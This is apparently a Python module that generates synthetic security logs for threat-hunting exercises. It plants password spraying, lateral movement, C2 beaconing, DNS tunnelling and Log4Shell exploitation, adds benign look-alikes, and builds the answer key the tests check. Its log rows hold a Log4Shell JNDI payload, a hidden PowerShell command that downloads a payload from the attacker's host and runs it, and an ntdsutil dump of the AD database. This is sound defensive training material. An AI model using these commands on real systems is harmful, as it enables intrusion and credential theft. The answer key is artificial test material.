"""Planted attacks (and a few benign look-alikes) with the answer key the tests and hunting notebooks check.

A fixed number of rows per scenario, whatever the dataset's size: at 10^4 events they stand out a little, at
10^8 they are needles. Everything here is a function of (seed, days, population), so the same key can be
recomputed without reading the data (`answer_key`).

One function per hunting notebook (notebooks/hunts/password-spraying.ipynb -> `password_spraying`, ...) plants
its attack; `password_spraying_look_alikes` and `exploitation_look_alikes` plant the benign rows those notebooks
must not report. `plant` calls them in a fixed order, because they share one random stream.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field

import numpy as np
import pyarrow as pa

from hunthub.data import draw
from hunthub.data.population import DOMAIN, Population
from hunthub.data.process import sha256_of
from hunthub.data.tables import ALL, TS

MIN = 60_000_000  # microseconds
SEC = 1_000_000
LOG4SHELL = ("CVE-2021-44228", 10.0, "Apache Log4j2 JNDI lookup remote code execution (Log4Shell)")
NOT_USERS = ["admin", "test", "guest", "scanner", "helpdesk"]  # sprayers try these too: "unknown user"
C2_UA = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)"


@dataclass
class Planted:
    rows: dict[str, list[dict]] = field(default_factory=dict)
    key: dict = field(default_factory=dict)
    indicators: list[dict] = field(default_factory=list)  # threat_intel rows the scenarios need
    findings: list[dict] = field(default_factory=list)  # vuln_findings the scenarios need (per scan)

    def add(self, table: str, **row) -> None:
        self.rows.setdefault(table, []).append(row)

    def tables(self) -> dict[str, pa.Table]:
        return {name: to_table(name, rows) for name, rows in self.rows.items()}

    def counts(self) -> dict[str, int]:
        return {name: len(rows) for name, rows in self.rows.items()}


def to_table(name: str, rows: list[dict]) -> pa.Table:
    spec = ALL[name]
    cols = {}
    for c in spec.columns:
        values = [r.get(c.name) for r in rows]
        cols[c.name] = pa.array(values, pa.int64()).cast(TS) if c.type == TS else pa.array(values, c.type)
    return pa.table(cols, schema=spec.schema)


def _window(first_us: int, last_us: int) -> dict:
    return {"start": draw.iso(first_us), "end": draw.iso(last_us)}


class _Net:
    """Connections for planted traffic: zeek_conn rows plus their dns / http rows with the same uid."""

    def __init__(self, planted: Planted, rng: np.random.Generator):
        self.p, self.rng = planted, rng

    def conn(self, ts, orig_h, resp_h, resp_p, service, *, proto="tcp", duration=0.5, ob=300, rb=500, state="SF"):
        uid = draw.uids(self.rng, 1)[0].as_py()
        orig_p = int(self.rng.integers(49152, 65536))
        ids = dict(ts=ts, uid=uid, orig_h=orig_h, orig_p=orig_p, resp_h=resp_h, resp_p=resp_p)
        self.p.add("zeek_conn", **ids, proto=proto, service=service, duration=duration, orig_bytes=ob,
                   resp_bytes=rb, conn_state=state)  # fmt: skip
        return ids

    def dns(self, ts, orig_h, resolver, query, qtype, answers, rb=120):
        c = self.conn(ts, orig_h, resolver, 53, "dns", proto="udp", duration=0.01, ob=len(query) + 30, rb=rb)
        self.p.add("zeek_dns", **c, proto="udp", query=query, qtype_name=qtype, rcode_name="NOERROR", answers=answers)
        return c

    def http(self, ts, orig_h, resp_h, port, host, uri, ua, *, method="GET", status=200, req=0, resp=512, dur=0.3):
        c = self.conn(ts, orig_h, resp_h, port, "http", duration=dur, ob=req + 250, rb=resp + 200)
        self.p.add("zeek_http", **c, method=method, host=host, uri=uri, user_agent=ua, status_code=status,
                   request_body_len=req, response_body_len=resp)  # fmt: skip
        return c


def _auth(p: Planted, pop: Population, ts, event_id, user, logon_type, package, src, dst, reason=None):
    p.add("auth_events", event_time=ts, event_id=event_id, outcome="failure" if event_id == 4625 else "success",
          user=user, domain=DOMAIN, logon_type=logon_type, auth_package=package, src_host=src,
          src_ip=pop.ip_of(src), dst_host=dst, failure_reason=reason, dst_ip=pop.ip_of(dst))  # fmt: skip


def _proc(p: Planted, ts, host, user, process, parent, command, sha256=None):
    p.add("process_events", event_time=ts, event_id=4688, host=host, user=user, domain=DOMAIN, process_name=process,
          parent_process_name=parent, command_line=command, sha256=sha256 or sha256_of(process))  # fmt: skip


def _domain(rng: np.random.Generator, words1, words2, tlds, taken: set[str]) -> str:
    while True:
        name = f"{rng.choice(words1)}-{rng.choice(words2)}.{rng.choice(tlds)}"
        if name not in taken:
            taken.add(name)
            return name


def _public_ip(rng: np.random.Generator, firsts, taken: set[str]) -> str:
    while True:
        ip = f"{rng.choice(firsts)}.{rng.integers(1, 255)}.{rng.integers(1, 255)}.{rng.integers(1, 255)}"
        if ip not in taken:
            taken.add(ip)
            return ip


def _indicator(indicator: str, kind: str, threat: str, source: str, confidence: int, valid_days: int) -> dict:
    """A threat_intel row for a planted indicator: valid from five days before the window, for valid_days."""
    valid_from = draw.day_start_us(0) - 5 * 86_400 * SEC
    return dict(indicator=indicator, indicator_type=kind, threat=threat, source=source, confidence=confidence,
                valid_from=valid_from, valid_until=valid_from + valid_days * 86_400 * SEC)  # fmt: skip


def _log4shell_finding(pop: Population, host: str, port: int) -> dict:
    """A vuln_findings row (before scan time and state are added): Log4Shell open on host:port for 40 days."""
    return dict(host=host, ip=pop.ip_of(host), cve=LOG4SHELL[0], cvss=LOG4SHELL[1], port=port, title=LOG4SHELL[2],
                first_seen=draw.day_start_us(0) - 40 * 86_400 * SEC)  # fmt: skip


@dataclass
class Scene:
    """What the scenario functions share, `plant` makes it.

    They all draw from one random stream, in turn, so the order `plant` calls them in is part of the data.
    """

    pop: Population
    seed: int
    days: int
    rng: np.random.Generator
    p: Planted
    net: _Net
    ws: dict[str, int]  # role -> workstation (an index into pop.hosts): distinct, each one a person's own
    names: set[str]  # domain names taken: the population's, then each one a scenario invents
    ips: set[str]  # addresses taken, likewise

    def day(self, k: int) -> int:
        """Start of day k, or of the last day: in a short window the scenarios' days fold into the days there are."""
        return draw.day_start_us(min(k, self.days - 1))


def plant(pop: Population, seed: int, days: int) -> Planted:
    """Every scenario's rows, threat-intel indicators, scan findings and answer-key entries for (pop, seed, days)."""
    rng = np.random.default_rng([seed, 7])
    p = Planted()
    people_ws = [h for h in range(pop.n_workstations) if pop.host_owner[h] in pop.user_index]
    roles = ("spray", "lateral", "hop", "beacon", "tunnel", "stale_password")
    chosen = rng.choice(people_ws, len(roles), replace=False)  # one draw for all: no two roles share a machine
    ws = {role: int(h) for role, h in zip(roles, chosen, strict=True)}
    s = Scene(pop, seed, days, rng, p, _Net(p, rng), ws, set(pop.names), set(pop.name_ip))
    # The attacks, then the look-alikes: the order in which generator version 1 drew them from `rng`. Moving a call
    # changes the rows of every scenario after it for the same seed (then bump generate.VERSION).
    password_spraying(s)
    lateral_movement(s)
    c2_beaconing(s)
    dns_tunnelling(s)
    exploitation(s)
    password_spraying_look_alikes(s)
    exploitation_look_alikes(s)
    return p


def password_spraying(s: Scene) -> None:
    """T1110.003 (hunts/password-spraying): one workstation tries one password against 30 real accounts and the
    five names of `NOT_USERS` ("unknown user"), against DC-01 over NTLM, in two rounds 25 minutes apart; in the
    second round one sprayed account's logon succeeds.

    Rows: 70 auth_events (69 failures 4625, one success 4624). Answer key: scenarios.password_spraying (window,
    source host and address, sprayed and unknown accounts, failures, the compromised account). Its look-alikes
    (one account failing a lot) are `password_spraying_look_alikes`.
    """
    pop, rng = s.pop, s.rng
    people = [u for u in pop.users if u[:4] not in ("svc_", "adm_")]
    stale_user = pop.host_owner[s.ws["stale_password"]]  # the look-alike's account is not sprayed as well
    sprayed = sorted(str(u) for u in rng.choice([u for u in people if u != stale_user], 30, replace=False))
    src, dc1 = pop.hosts[s.ws["spray"]], "DC-01"
    t = s.day(1) + 2 * 3600 * SEC + int(rng.integers(0, 60)) * MIN
    first = t
    compromised = sprayed[int(rng.integers(0, len(sprayed)))]
    for round_ in range(2):
        for user in [*sprayed, *NOT_USERS]:
            t += int(rng.integers(15, 40)) * SEC
            if round_ == 1 and user == compromised:
                _auth(s.p, pop, t, 4624, user, 3, "NTLM", src, dc1)
                continue
            reason = "unknown user" if user in NOT_USERS else "bad password"
            _auth(s.p, pop, t, 4625, user, 3, "NTLM", src, dc1, reason)
        t += 25 * MIN  # between rounds: stay under the lockout threshold's observation window
    s.p.key["password_spraying"] = {
        "technique": "T1110.003",
        "name": "Password spraying",
        "window": _window(first, t),
        "source_host": src,
        "source_ip": pop.host_ip[s.ws["spray"]],
        "target_host": dc1,
        "sprayed_accounts": sprayed,
        "unknown_accounts": sorted(NOT_USERS),
        "attempts_per_account": 2,
        "failures": 2 * (len(sprayed) + len(NOT_USERS)) - 1,
        "compromised_account": compromised,
        "expect": "one source fails for many accounts (>= 30) with at most 2 failures each, in about an hour",
    }


def lateral_movement(s: Scene) -> None:
    """T1021.002 / T1021.001 (hunts/lateral-movement): stolen admin credentials (adm_jsmith or adm_kcohen) hop from
    a workstation to another workstation over SMB (PsExec, `net group "Domain Admins"`), on to SQL-01 over RDP
    (rdpclip, cmd, nltest) and to DC-02 over SMB (PsExec, ntdsutil copying the AD database), 15-40 minutes apart.

    Rows per hop: a zeek_conn connection (445 or 3389); 4624, 4672 and 4634 in auth_events (logon type 3 or 10);
    two (SMB) or three (RDP) process_events. No look-alike of its own: the background's remote logons go from
    workstations to servers, never workstation to workstation. Answer key: scenarios.lateral_movement (account,
    compromised workstation, every hop with its time and conn uid, the hosts in order).
    """
    pop, rng, p = s.pop, s.rng, s.p
    account = str(rng.choice(["adm_jsmith", "adm_kcohen"]))
    path = [
        (pop.hosts[s.ws["lateral"]], pop.hosts[s.ws["hop"]], "smb", 445, 3),
        (pop.hosts[s.ws["hop"]], "SQL-01", "rdp", 3389, 10),
        ("SQL-01", "DC-02", "smb", 445, 3),
    ]
    t = s.day(2) + 10 * 3600 * SEC + int(rng.integers(0, 60)) * MIN
    first, hops = t, []
    for i, (a, b, proto, port, logon_type) in enumerate(path):
        rdp = proto == "rdp"
        c = s.net.conn(t, pop.ip_of(a), pop.ip_of(b), port, proto, duration=1800.0 if rdp else 40.0,
                       ob=2_500_000 if rdp else 90_000, rb=9_000_000 if rdp else 60_000)  # fmt: skip
        _auth(p, pop, t + SEC, 4624, account, logon_type, "Negotiate" if rdp else "NTLM", a, b)
        _auth(p, pop, t + SEC + 1000, 4672, account, logon_type, "Negotiate" if rdp else "NTLM", a, b)
        if rdp:
            _proc(p, t + 5 * SEC, b, account, "rdpclip.exe", "svchost.exe", "rdpclip")
            _proc(p, t + 90 * SEC, b, account, "cmd.exe", "explorer.exe", "cmd.exe")
            _proc(p, t + 120 * SEC, b, account, "nltest.exe", "cmd.exe", "nltest /dclist:corp")
        else:
            _proc(p, t + 3 * SEC, b, "SYSTEM", "PSEXESVC.exe", "services.exe", "C:\\Windows\\PSEXESVC.exe")
            command = (
                'cmd.exe /c net group "Domain Admins" /domain'
                if i == 0
                else 'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ntds" q q'
            )
            _proc(p, t + 5 * SEC, b, account, command.split()[0].removesuffix(".exe") + ".exe", "PSEXESVC.exe", command)
        _auth(p, pop, t + (1800 if rdp else 40) * SEC, 4634, account, logon_type, "Negotiate" if rdp else "NTLM", a, b)
        hops.append({"src_host": a, "src_ip": pop.ip_of(a), "dst_host": b, "dst_ip": pop.ip_of(b), "protocol": proto,
                     "port": port, "logon_type": logon_type, "time": draw.iso(t + SEC), "uid": c["uid"]})  # fmt: skip
        t += int(rng.integers(15, 40)) * MIN
    p.key["lateral_movement"] = {
        "technique": ["T1021.002", "T1021.001"],
        "name": "Lateral movement over SMB and RDP with stolen admin credentials",
        "window": _window(first, t),
        "account": account,
        "compromised_workstation": path[0][0],
        "compromised_ip": pop.ip_of(path[0][0]),
        "path": hops,
        "hosts": [path[0][0], *[h[1] for h in path]],
        "expect": "4624 logon type 3 (SMB) / 10 (RDP) hop by hop from the compromised workstation, matching "
        "zeek_conn 445 / 3389, PSEXESVC.exe and ntdsutil.exe in process_events",
    }


def c2_beaconing(s: Scene) -> None:
    """T1071.001 (hunts/c2-beaconing): an implant (msupdate.exe, started from explorer.exe) on one workstation checks
    in over HTTP with an old Internet Explorer user agent every 600 s +- 30 s for 36 hours (or to the window's
    end), to an invented domain on a public address, resolving it through DC-01 before every sixth beacon.

    Rows: one process_events row; per beacon a zeek_http row and its zeek_conn row; per lookup a zeek_dns row and
    its zeek_conn row. threat_intel lists the domain, the address and the implant's hash. The look-alikes, two
    expired indicators for sites everyone visits, are made with the rest of the feed (`reference.threat_intel`).
    Answer key: scenarios.c2_beaconing (host, domain, address, interval, beacons, lookups, URI, implant).
    """
    pop, rng, seed = s.pop, s.rng, s.seed
    c2 = _domain(rng, ["cdn", "telemetry", "update", "sync", "metrics"], ["nodes", "relay", "edge", "hub"],
                 ["net", "xyz", "top", "io"], s.names)  # fmt: skip
    c2_ip = _public_ip(rng, [185, 45, 91], s.ips)
    host, host_ip = pop.hosts[s.ws["beacon"]], pop.host_ip[s.ws["beacon"]]
    interval, jitter = 600, 30
    t = s.day(2) + 9 * 3600 * SEC + int(rng.integers(0, 60)) * MIN
    stop = min(t + 36 * 3600 * SEC, draw.day_start_us(s.days) - MIN)
    implant = ("msupdate.exe", sha256_of("msupdate.exe", f"implant-{seed}"))
    user = pop.host_owner[s.ws["beacon"]]
    _proc(s.p, t - 2 * MIN, host, user, implant[0], "explorer.exe",
          f"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\msupdate.exe -k", implant[1])  # fmt: skip
    first, beacons, lookups, uri = t, 0, 0, f"/api/v2/check?id={rng.integers(10**7, 10**8)}"
    while t < stop:
        if beacons % 6 == 0:  # the implant resolves its C2 about hourly (DNS TTL), not before every beacon
            s.net.dns(t - 50_000, host_ip, pop.ip_of("DC-01"), c2, "A", c2_ip)
            lookups += 1
        s.net.http(t, host_ip, c2_ip, 80, c2, uri, C2_UA, resp=int(rng.integers(60, 68)), req=0)
        beacons += 1
        last = t
        t += (interval + int(rng.integers(-jitter, jitter + 1))) * SEC
    s.p.key["c2_beaconing"] = {
        "technique": "T1071.001",
        "name": "C2 beaconing over HTTP to a threat-intel listed domain",
        "window": _window(first, last),
        "host": host,
        "host_ip": host_ip,
        "domain": c2,
        "ip": c2_ip,
        "port": 80,
        "interval_seconds": interval,
        "jitter_seconds": jitter,
        "beacons": beacons,
        "dns_lookups": lookups,
        "uri": uri,
        "user_agent": C2_UA,
        "implant": {"process_name": implant[0], "sha256": implant[1]},
        "expect": f"{beacons} HTTP requests host -> domain every {interval}s +- {jitter}s; domain and implant hash "
        "in threat_intel",
    }
    s.p.indicators += [
        _indicator(c2, "domain", "C2 (HTTP beacon)", "isac-share", 85, 90),
        _indicator(c2_ip, "ip", "C2 server", "feodo-tracker", 75, 30),
        _indicator(implant[1], "sha256", "implant (HTTP beacon)", "vendor-av", 95, 365),
    ]


def dns_tunnelling(s: Scene) -> None:
    """T1048.003 / T1071.004 (hunts/dns-tunnelling): one workstation sends 35 random bytes at a time out in the
    names of TXT queries, `<56 base32 characters>.<counter>.<domain>`, 240 of them 10-20 s apart at night, through
    DC-01 and DC-02 in turn, to an invented domain that threat_intel does not list (the behaviour is the finding).

    Rows: 240 zeek_dns rows and their zeek_conn rows. No look-alike of its own: everyday lookups repeat a few short
    names per site (`network.py`). Answer key: scenarios.dns_tunnelling (host, domain, queries, label length,
    characters and bytes sent).
    """
    pop, rng = s.pop, s.rng
    tunnel = _domain(rng, ["res", "lookup", "ns", "query"], ["cache", "check", "route", "zone"],
                     ["com", "net", "org"], s.names)  # fmt: skip
    host, host_ip = pop.hosts[s.ws["tunnel"]], pop.host_ip[s.ws["tunnel"]]
    resolvers = pop.ip_of("DC-01"), pop.ip_of("DC-02")
    t = s.day(4) + 21 * 3600 * SEC + int(rng.integers(0, 30)) * MIN
    first, queries, chars, raw = t, 240, 0, 0
    for i in range(queries):
        chunk = bytes(rng.integers(0, 256, 35, dtype=np.uint8))
        label = base64.b32encode(chunk).decode().lower().rstrip("=")
        query = f"{label}.{i:04x}.{tunnel}"
        s.net.dns(t, host_ip, resolvers[i % 2], query, "TXT", base64.b64encode(chunk[:12]).decode())
        chars, raw = chars + len(label), raw + len(chunk)
        last = t
        t += int(rng.integers(10, 20)) * SEC
    s.p.key["dns_tunnelling"] = {
        "technique": ["T1048.003", "T1071.004"],
        "name": "Exfiltration by DNS tunnelling",
        "window": _window(first, last),
        "host": host,
        "host_ip": host_ip,
        "domain": tunnel,
        "queries": queries,
        "qtype": "TXT",
        "subdomain_chars": chars,
        "exfiltrated_bytes": raw,
        "label_length": 56,
        "in_threat_intel": False,
        "expect": f"{queries} TXT queries with a 56-character base32 (high entropy) label under one domain "
        "from one host in about an hour",
    }


def exploitation(s: Scene) -> None:
    """T1190 (hunts/exploitation): an outside address port-scans WEB-02, sends a Log4Shell JNDI lookup in the
    User-Agent of a request to its portal on 8080, and WEB-02 calls back (LDAP, 1389), downloads a payload over
    HTTP, and its Java web server runs cmd.exe -> powershell.exe -> ups.exe -> whoami.exe.

    Rows: 10 scan connections, the exploit's and the download's zeek_http rows with their zeek_conn rows, the
    callback's zeek_conn row, 4 process_events. vuln_findings has Log4Shell open on WEB-02:8080; threat_intel
    lists the attacker's address and the payload's hash. The look-alike (a vulnerable host nobody attacks) is
    `exploitation_look_alikes`. Answer key: scenarios.exploitation (host, CVE, attacker, the exploit's,
    callback's and download's uids, the process chain).
    """
    pop, rng, seed = s.pop, s.rng, s.seed
    victim, victim_ip = "WEB-02", pop.ip_of("WEB-02")
    attacker = _public_ip(rng, [185, 45, 91], s.ips)
    t = s.day(3) + 14 * 3600 * SEC + int(rng.integers(0, 60)) * MIN
    first = t
    for port in (21, 22, 23, 80, 443, 445, 3389, 8000, 8080, 8443):  # a port scan first
        s.net.conn(t, attacker, victim_ip, port, None, duration=0.0, ob=0, rb=0, state="SF" if port == 8080 else "REJ")
        t += 200_000
    t += 3 * MIN
    jndi = f"${{jndi:ldap://{attacker}:1389/Exploit}}"
    exploit = s.net.http(t, attacker, victim_ip, 8080, "portal.corp.example", "/portal/login", jndi)
    callback = s.net.conn(t + 2 * SEC, victim_ip, attacker, 1389, "ldap", duration=1.2, ob=180, rb=2400)
    payload_url = f"http://{attacker}/payload/ups.exe"
    ps_agent = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1"
    download = s.net.http(t + 40 * SEC, victim_ip, attacker, 80, attacker, "/payload/ups.exe", ps_agent, resp=73_802)
    payload = ("ups.exe", sha256_of("ups.exe", f"payload-{seed}"))
    procs = [
        (30, "cmd.exe", "java.exe", f'cmd.exe /c powershell -nop -w hidden -c "iwr {payload_url} -OutFile '
         f'C:\\Windows\\Temp\\ups.exe"', None),
        (31, "powershell.exe", "cmd.exe", f"powershell -nop -w hidden -c iwr {payload_url} -OutFile "
         "C:\\Windows\\Temp\\ups.exe", None),
        (60, "ups.exe", "powershell.exe", "C:\\Windows\\Temp\\ups.exe", payload[1]),
        (75, "whoami.exe", "ups.exe", "whoami /all", None),
    ]  # fmt: skip
    for dt, name, parent, command, sha in procs:
        _proc(s.p, t + dt * SEC, victim, "SYSTEM", name, parent, command, sha)
    s.p.key["exploitation"] = {
        "technique": "T1190",
        "name": "Exploitation of a public-facing application with a critical CVE",
        "window": _window(first, t + 75 * SEC),
        "host": victim,
        "ip": victim_ip,
        "cve": LOG4SHELL[0],
        "cvss": LOG4SHELL[1],
        "port": 8080,
        "attacker_ip": attacker,
        "exploit_uid": exploit["uid"],
        "exploit_time": draw.iso(t),
        "callback": {"port": 1389, "uid": callback["uid"]},
        "payload": {"url": payload_url, "process_name": payload[0], "sha256": payload[1], "uid": download["uid"]},
        "processes": [name for _, name, *_ in procs],
        "expect": "the host has the CVE open in vuln_findings; a JNDI lookup in zeek_http user_agent from the "
        "attacker; the host then connects out to the attacker (1389 / 80); java.exe spawns cmd.exe",
    }
    s.p.indicators += [
        _indicator(attacker, "ip", "scanner / Log4Shell exploitation", "urlhaus", 60, 60),
        _indicator(payload[1], "sha256", "loader", "vendor-av", 90, 365),
    ]
    s.p.findings.append(_log4shell_finding(pop, victim, 8080))


def password_spraying_look_alikes(s: Scene) -> None:
    """Benign failed logons that a "many failures" query finds next to the spray, for hunts/password-spraying to
    set aside: each fails for one account only, however many servers or hours.

    - A stale saved password: a person whose password changed fails (Kerberos) against seven servers from their
      workstation, twice, then logs on at the console (4624 type 2) on day 0: 15 auth_events.
    - A service account, svc_backup, fails hourly on FS-01 on day 0 (a scheduled task's old password): 24.

    Drawn last, after the attacks, where generator version 1 drew them. Answer key: benign.stale_password and
    benign.service_account.
    """
    pop, rng = s.pop, s.rng
    stale_user, stale_src = pop.host_owner[s.ws["stale_password"]], pop.hosts[s.ws["stale_password"]]
    t = s.day(0) + 8 * 3600 * SEC + 30 * MIN
    targets = ["DC-01", "DC-02", "FS-01", "SQL-01", "WEB-01", "EXCH-01", "JUMP-01"]
    for rep in range(2):
        for dst in targets:
            _auth(s.p, pop, t, 4625, stale_user, 3, "Kerberos", stale_src, dst, "bad password")
            t += int(rng.integers(20, 90)) * SEC
        t += 10 * MIN * (rep + 1)
    _auth(s.p, pop, t, 4624, stale_user, 2, "Negotiate", stale_src, stale_src)
    for hour in range(24):
        _auth(s.p, pop, s.day(0) + hour * 3600 * SEC + 5 * MIN, 4625, "svc_backup", 5, "Negotiate", "FS-01", "FS-01",
              "bad password")  # fmt: skip
    benign = s.p.key.setdefault("benign", {})
    benign["stale_password"] = {
        "user": stale_user,
        "host": stale_src,
        "failed_against": sorted(targets),
        "why": "password changed; saved sessions retry the old one on every server",
    }
    benign["service_account"] = {
        "user": "svc_backup",
        "host": "FS-01",
        "failures": 24,
        "why": "a scheduled task with an old password, hourly",
    }


def exploitation_look_alikes(s: Scene) -> None:
    """A host as vulnerable as the victim that nobody attacks, for hunts/exploitation to leave alone: matching the
    scans to the CVE alone is not the finding. vuln_findings has Log4Shell open on WEB-01:8443; no other row.

    Draws nothing at random. Answer key: benign.unexploited_vulnerable_host.
    """
    s.p.findings.append(_log4shell_finding(s.pop, "WEB-01", 8443))
    s.p.key.setdefault("benign", {})["unexploited_vulnerable_host"] = {"host": "WEB-01", "cve": LOG4SHELL[0]}
